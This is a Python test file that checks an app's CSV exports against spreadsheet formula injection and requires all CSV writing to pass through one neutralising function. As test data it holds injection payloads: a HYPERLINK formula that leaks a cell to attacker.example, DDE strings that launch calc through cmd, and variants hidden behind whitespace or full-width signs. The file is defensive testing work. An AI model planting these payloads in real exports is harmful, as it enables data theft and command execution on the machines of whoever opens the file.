"""CSV exports cannot carry spreadsheet formulas (OWASP CSV injection): every text cell that a spreadsheet would
run is made inert, in the call-log export, the Evals cases CSV and the pages' CSV downloads — and nothing in the
app writes CSV except through the one neutraliser."""
from __future__ import annotations

import csv
import io
import re
import tomllib
from pathlib import Path

import pandas as pd
from hypothesis import example, given
from hypothesis import strategies as st

from core.calls import interchange
from core.calls.log import CallRecord
from core.evals import config as ec
from core.evals.assertions import Assertion
from core.formats import exports
from core.formats.exports import neutralise, to_csv

ROOT = Path(__file__).resolve().parents[2]

FORMULAS = ['=HYPERLINK("http://attacker.example/?q="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
            "\t=1", "\r=1"]


def test_formula_cells_are_neutralised_and_numbers_are_not():
    frame = pd.DataFrame({"user": FORMULAS, "n": range(len(FORMULAS)), "delta": [-3.5] * len(FORMULAS)})
    rows = list(csv.reader(io.StringIO(to_csv(frame))))
    assert all(cell.startswith("'") for cell in (r[0] for r in rows[1:]))
    assert rows[1][2] == "-3.5"  # a negative number is data, not a formula
    assert neutralise("plain") == "plain" and neutralise(None) is None


def test_the_call_log_csv_export_is_neutralised(log, tmp_path: Path):
    for i, name in enumerate(FORMULAS):
        log.write(CallRecord(request_id=f"r{i}", ts="2026-11-27T09:00:00+00:00", page="chat", provider="openai",
                             model_requested="=cmd()", model="gpt-4o-mini", status="ok", user=name,
                             tags=["=1+1"]))
    out = tmp_path / "calls.csv"
    assert interchange.export(log, str(out)) == len(FORMULAS)
    rows = list(csv.DictReader(out.open(newline="")))
    cells = [r[k] for r in rows for k in ("user", "model_requested")]
    assert cells and not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    assert {r["user"] for r in rows} == {"'" + f for f in FORMULAS}


def test_every_csv_download_on_a_page_goes_through_the_neutraliser():
    pages = ROOT / "pages"
    downloads = [line for source in pages.glob("*.py") for line in source.read_text().splitlines()
                 if "download_button(" in line and "csv" in line.lower()]
    assert len(downloads) >= 4
    for line in downloads:  # exports.to_csv, or tests_to_csv (which writes through exports.rows_to_csv)
        assert "to_csv(" in line and ".to_csv(" not in line, line


def test_csv_cells_are_parseable_lists_plain_decimals_and_utc_timestamps():
    import json as _json
    frame = pd.DataFrame({"tags": [["demo", "experiment-42"], []], "cost_usd": [5.1e-05, None],
                          "ts": pd.to_datetime(["2026-11-27 09:00:00.123", "2026-11-27 10:00:00"], format="ISO8601")})
    rows = list(csv.DictReader(io.StringIO(to_csv(frame))))
    assert _json.loads(rows[0]["tags"]) == ["demo", "experiment-42"] and _json.loads(rows[1]["tags"]) == []
    assert rows[0]["cost_usd"] == "0.000051" and rows[1]["cost_usd"] == ""
    assert rows[0]["ts"] == "2026-11-27T09:00:00.123+00:00"


# The replays, and their cousins: whitespace, line breaks and tabs that spreadsheets skip before the
# formula, the full-width signs an East Asian keyboard types, a byte-order mark.
HIDDEN = [" =1+1", "\n=cmd|' /C calc'!A0", "  \t@SUM(A1:A9)", "\r\n+1+1", "\u3000=1+1", "＝1+1", "＠SUM(1)",
          "\ufeff=1", "\u200b-1+1", " -2+3"]
NUMBERS = ["-5", "+3.2", "-0.5", "1e-3", " -7 "]  # plain numbers: no spreadsheet runs them


def runs_in_a_spreadsheet(cell: str) -> bool:
    """What a spreadsheet would take for a formula, written apart from the code under test."""
    if cell.startswith(("\t", "\r")):
        return True
    head = cell.lstrip(" \t\r\n\u3000\ufeff\u200b")
    if not head or head[0] not in "=+-@＝＋－＠":
        return False
    return re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", head.strip()) is None


def test_formulas_behind_spaces_line_breaks_tabs_and_full_width_signs_are_neutralised():
    frame = pd.DataFrame({"user": HIDDEN + FORMULAS, "note": [NUMBERS[i % len(NUMBERS)] for i in
                                                               range(len(HIDDEN + FORMULAS))],
                          "delta": [-5, 3] * (len(HIDDEN + FORMULAS) // 2)})
    rows = list(csv.reader(io.StringIO(to_csv(frame))))
    assert [runs_in_a_spreadsheet(r[0]) for r in rows[1:]] == [False] * len(HIDDEN + FORMULAS)
    assert [r[0] for r in rows[1:]] == ["'" + f for f in HIDDEN + FORMULAS]
    assert {r[1] for r in rows[1:]} == set(NUMBERS)  # numbers as text stay numbers: no quote
    assert {r[2] for r in rows[1:]} == {"-5", "3"}  # and numeric columns are untouched
    written = list(csv.reader(io.StringIO(exports.rows_to_csv([["=head", "n"], *([f, -5] for f in HIDDEN)]))))
    assert written[0] == ["'=head", "n"] and not any(runs_in_a_spreadsheet(r[0]) for r in written[1:])
    assert {r[1] for r in written[1:]} == {"-5"}


def test_the_evals_cases_csv_is_neutralised():
    """Row 12: a test case with `=HYPERLINK(…)` in it, downloaded as "Cases CSV"."""
    attack = '=HYPERLINK("http://attacker.example/?q="&A1,"x")'
    cases = [ec.TestCase(vars={"question": attack, "=col": "\n=cmd|' /C calc'!A0", "n": -5},
                      assertions=[Assertion(type="equals", value="@SUM(1)")], description=" =1+1", threshold=0.5)]
    rows = list(csv.reader(io.StringIO(ec.tests_to_csv(cases))))
    cells = [c for row in rows for c in row]
    assert attack in "".join(cells) and not [c for c in cells if runs_in_a_spreadsheet(c)]
    assert "-5" in rows[1]  # a number stays a number
    # The Evals page edits the cases as a table: it reads back exactly what the cases hold, no quotes added.
    table = exports.table_from_csv(ec.tests_to_csv(cases))
    assert list(table.columns)[:2] == ["question", "=col"]
    assert table.iloc[0].tolist()[:3] == [attack, "\n=cmd|' /C calc'!A0", "-5"]
    again = ec.tests_from_csv(table.to_csv(index=False))[0]
    assert again.vars == {"question": attack, "=col": "\n=cmd|' /C calc'!A0", "n": "-5"}
    assert again.assertions == cases[0].assertions and again.description == " =1+1"


@given(st.text(alphabet=st.sampled_from(list("'=+-@ \t\r\n\u3000＝1.ae\ufeff")), max_size=8))
@example("\ufeff \ufeff=")  # a mark, a space, a mark: found by Hypothesis, the formula ran
def test_restore_undoes_neutralise_exactly(text):
    assert exports.restore(neutralise(text)) == text
    assert not runs_in_a_spreadsheet(neutralise(text))


CSV_WRITERS = re.compile(r"csv\.writer|DictWriter|writerows?\(|\.to_csv\(|QUOTE_(ALL|MINIMAL|NONNUMERIC|NONE)")
# Where CSV text is made but never leaves the server: the Evals page hands the edited table to the CSV parser.
IN_MEMORY_HAND_OFFS = {("pages/evals.py", "tests_from_csv(edited.to_csv(index=False))")}


def test_nothing_writes_csv_except_through_the_one_neutraliser():
    """An architecture check: a new CSV download written with csv.writer or DataFrame.to_csv fails here."""
    found = []
    for source in [*(ROOT / "core").rglob("*.py"), *(ROOT / "pages").rglob("*.py"), ROOT / "app.py"]:
        name = source.relative_to(ROOT).as_posix()
        if name == "core/formats/exports.py":
            continue
        for line in source.read_text().splitlines():
            if CSV_WRITERS.search(line) and not any(n == name and hand in line for n, hand in IN_MEMORY_HAND_OFFS):
                found.append(f"{name}: {line.strip()}")
    assert not found, "CSV written outside core/formats/exports.py (use exports.to_csv / rows_to_csv):\n" + "\n".join(found)


def test_streamlits_own_csv_download_of_tables_is_off():
    """st.dataframe's toolbar writes CSV in the browser, past the neutraliser: the app turns that export off."""
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True


def test_a_downloaded_cases_csv_reads_back_as_it_was_written():
    from core.evals.config import TestCase, tests_from_csv, tests_to_csv

    cases = [TestCase(vars={"q": '=HYPERLINK("http://x.example/"&A1,"x")', "n": "-5", "@who": " +1"})]
    csv_text = tests_to_csv(cases)
    assert "'=HYPERLINK" in csv_text  # neutralised in the file
    (back,) = tests_from_csv(csv_text)
    assert back.vars == cases[0].vars  # and read back unquoted
